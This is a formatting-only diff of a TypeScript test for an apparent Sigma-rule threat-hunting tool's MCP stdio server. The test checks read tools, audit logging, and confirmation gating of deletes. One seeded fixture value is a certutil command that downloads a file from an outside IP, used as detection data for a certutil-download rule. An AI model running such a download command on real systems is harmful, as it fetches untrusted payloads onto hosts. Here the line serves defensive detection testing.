@@ -32,7 +32,9 @@ level: high
 
 /** A little of everything the read tools look at, written straight to the database. */
 async function seed(db: Db): Promise<{ articleId: number; executionId: number; queueId: number }> {
-  const source = await db.prisma.source.create({ data: { identifier: 'stdio-src', name: 'Stdio Source', url: 'https://s.example.test/feed', kind: 'rss' } });
+  const source = await db.prisma.source.create({
+    data: { identifier: 'stdio-src', name: 'Stdio Source', url: 'https://s.example.test/feed', kind: 'rss' },
+  });
   const article = await db.prisma.article.create({
     data: {
       sourceId: source.id,
@@ -47,7 +49,12 @@ async function seed(db: Db): Promise<{ articleId: number; executionId: number; q
     },
   });
   const execution = await db.prisma.workflowExecution.create({
-    data: { articleId: article.id, status: 'completed', configSnapshot: {}, corpusCoverage: { corpus_rules: 1, covered: [], uncovered: ['cmdline: certutil -urlcache -f http://198.51.100.2/a a'] } },
+    data: {
+      articleId: article.id,
+      status: 'completed',
+      configSnapshot: {},
+      corpusCoverage: { corpus_rules: 1, covered: [], uncovered: ['cmdline: certutil -urlcache -f http://198.51.100.2/a a'] },
+    },
   });
   const analysed = analyseRuleText(RULE);
   if (!analysed.ok) throw new Error(analysed.reason);
@@ -61,10 +68,14 @@ async function seed(db: Db): Promise<{ articleId: number; executionId: number; q
       contentHash: 'rule-hash',
       telemetryClass: analysed.atoms.telemetryClass,
       logsource: { product: 'windows', category: 'process_creation' },
-      atoms: { create: analysed.atoms.positive.map((atom) => ({ atom, polarity: 'positive', telemetryClass: analysed.atoms.telemetryClass })) },
+      atoms: {
+        create: analysed.atoms.positive.map((atom) => ({ atom, polarity: 'positive', telemetryClass: analysed.atoms.telemetryClass })),
+      },
     },
   });
-  const queued = await db.prisma.sigmaQueueItem.create({ data: { ruleYaml: RULE, title: 'Certutil Download (generated)', workflowExecutionId: execution.id } });
+  const queued = await db.prisma.sigmaQueueItem.create({
+    data: { ruleYaml: RULE, title: 'Certutil Download (generated)', workflowExecutionId: execution.id },
+  });
   return { articleId: article.id, executionId: execution.id, queueId: queued.id };
 }
 
@@ -137,12 +148,20 @@ describe('huntforge mcp --stdio (official SDK client over stdio)', () => {
         expect({ name, isError: result.isError ?? false }).toEqual({ name, isError: false });
         expect(result.structuredContent).toBeDefined();
       }
-      const similar = (await client.callTool({ name: 'find_similar_sigma_rules', arguments: args['find_similar_sigma_rules'] })) as CallToolResult;
-      expect(similar.structuredContent).toMatchObject({ items: [expect.objectContaining({ similarity: 1, attribution: expect.objectContaining({ author: 'Stdio Test Author' }) })] });
+      const similar = (await client.callTool({
+        name: 'find_similar_sigma_rules',
+        arguments: args['find_similar_sigma_rules'],
+      })) as CallToolResult;
+      expect(similar.structuredContent).toMatchObject({
+        items: [expect.objectContaining({ similarity: 1, attribution: expect.objectContaining({ author: 'Stdio Test Author' }) })],
+      });
 
       // A high-risk write only files a confirmation request.
       const pending = (await client.callTool({ name: 'delete_article', arguments: { article_id: ids.articleId } })) as CallToolResult;
-      expect(pending.structuredContent).toMatchObject({ status: 'pending_confirmation', confirmation: { tool: 'delete_article', status: 'pending' } });
+      expect(pending.structuredContent).toMatchObject({
+        status: 'pending_confirmation',
+        confirmation: { tool: 'delete_article', status: 'pending' },
+      });
     } finally {
       await client.close();
     }
@@ -151,7 +170,9 @@ describe('huntforge mcp --stdio (official SDK client over stdio)', () => {
     try {
       const audit = await db.prisma.auditEvent.findMany({ where: { type: 'mcp.tool_call' } });
       expect(audit).toHaveLength(MCP_READ_TOOLS.length + 2);
-      expect(audit.every((row) => row.actor?.startsWith('stdio:') && (row.payload as { transport?: string }).transport === 'stdio')).toBe(true);
+      expect(audit.every((row) => row.actor?.startsWith('stdio:') && (row.payload as { transport?: string }).transport === 'stdio')).toBe(
+        true,
+      );
       expect(audit.filter((row) => row.outcome === 'pending_confirmation').map((row) => row.tool)).toEqual(['delete_article']);
       expect(await db.prisma.article.count()).toBe(1);
     } finally {
